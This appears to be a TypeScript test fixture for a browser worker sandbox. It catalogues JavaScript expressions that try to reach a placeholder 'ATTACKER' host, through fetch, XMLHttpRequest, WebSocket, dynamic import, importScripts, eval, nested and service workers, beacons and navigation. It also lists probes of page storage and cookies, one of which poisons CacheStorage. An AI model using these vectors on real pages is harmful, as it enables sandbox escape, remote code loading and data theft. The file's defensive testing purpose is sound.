import { KEY } from './key.ts';

/**
 * The worker's JavaScript in the attacker's hands: more than Python can reach. Each is an
 * expression; ATTACKER stands for its address.
 */
export const WORKER_EXPRESSIONS: Record<string, string> = {
	fetch: "fetch('ATTACKER')",
	'fetch without waiting':
		"fetch('ATTACKER', { mode: 'no-cors', keepalive: true, method: 'POST' })",
	'the fetch of before':
		"Object.getPrototypeOf(Object.getPrototypeOf(self)).fetch?.call(self, 'ATTACKER') ?? Reflect.getPrototypeOf(self).fetch",
	XMLHttpRequest: `new Promise((resolve, reject) => {
		const request = new XMLHttpRequest(); request.onerror = reject;
		request.onload = () => resolve(request.responseText); request.open('GET', 'ATTACKER'); request.send(); })`,
	'a synchronous XMLHttpRequest':
		"(() => { const r = new XMLHttpRequest(); r.open('GET', 'ATTACKER', false); r.send(); return r.responseText; })()",
	WebSocket:
		"new Promise((resolve, reject) => { const s = new WebSocket('ATTACKER'.replace('http', 'ws')); s.onopen = resolve; s.onerror = reject; })",
	EventSource:
		"new Promise((resolve, reject) => { const s = new EventSource('ATTACKER'); s.onopen = resolve; s.onerror = reject; })",
	'import()': "import('ATTACKER/x.js')",
	'import() of data': "import('data:text/javascript,fetch(%22ATTACKER%22)')",
	importScripts: "importScripts('ATTACKER/x.js')",
	'importScripts of data': "importScripts('data:text/javascript,1')",
	'importScripts of a blob': "importScripts(URL.createObjectURL(new Blob([`fetch('ATTACKER')`])))",
	eval: `eval("fetch('ATTACKER')")`,
	'the Function constructor': `new Function("fetch('ATTACKER')")()`,
	'setTimeout with text': `setTimeout("fetch('ATTACKER')", 0)`,
	'a nested worker':
		"new Promise((resolve, reject) => { const w = new Worker(URL.createObjectURL(new Blob([`fetch('ATTACKER').then(() => postMessage(1), (e) => postMessage(String(e)))`]))); w.onmessage = (m) => resolve(m.data); w.onerror = reject; })",
	'a nested worker of the attacker':
		"new Promise((resolve, reject) => { const w = new Worker('ATTACKER/x.js'); w.onmessage = resolve; w.onerror = () => reject('no worker'); })",
	'a nested worker of data':
		"new Promise((resolve, reject) => { const w = new Worker('data:text/javascript,fetch(%22ATTACKER%22)'); w.onmessage = resolve; w.onerror = () => reject('no worker'); })",
	'a shared worker': "new SharedWorker('ATTACKER/x.js')",
	'a service worker': "navigator.serviceWorker.register('ATTACKER/x.js')",
	WebTransport:
		"(() => { const t = new WebTransport('ATTACKER'.replace('http:', 'https:')); return t.ready; })()",
	RTCPeerConnection: "new RTCPeerConnection({ iceServers: [{ urls: 'stun:127.0.0.1:PORT' }] })",
	'a font': "new FontFace('x', 'url(ATTACKER/font)').load()",
	'WebAssembly from elsewhere': "WebAssembly.compileStreaming(fetch('ATTACKER'))",
	'a beacon': "navigator.sendBeacon('ATTACKER', 'x')",
	'a notification with an icon': "new Notification('x', { icon: 'ATTACKER/icon' })",
	'navigation of the page': "clients.openWindow('ATTACKER')",
	'navigation of itself': "(() => { self.location.href = 'ATTACKER'; return 'no'; })()",
};

/** What the page keeps for itself. */
export const WORKER_STORES: Record<string, string> = {
	localStorage: 'self.localStorage.getItem("key")',
	IndexedDB: `new Promise((resolve, reject) => {
		const opening = indexedDB.open('${KEY}'); opening.onsuccess = () => resolve(opening.result.version); opening.onerror = reject; })`,
	'the names of IndexedDB': 'indexedDB.databases().then(JSON.stringify)',
	CacheStorage: 'caches.keys().then(String)',
	'poisoned CacheStorage':
		"caches.open('x').then((c) => c.put('/', new Response('poison'))).then(() => 'put')",
	'the private file system':
		'navigator.storage.getDirectory().then(async (d) => { const n = []; for await (const k of d.keys()) n.push(k); return n; })',
	cookies: 'self.cookieStore.getAll().then(JSON.stringify)',
	locks: "navigator.locks.request('x', () => 'locked')",
};
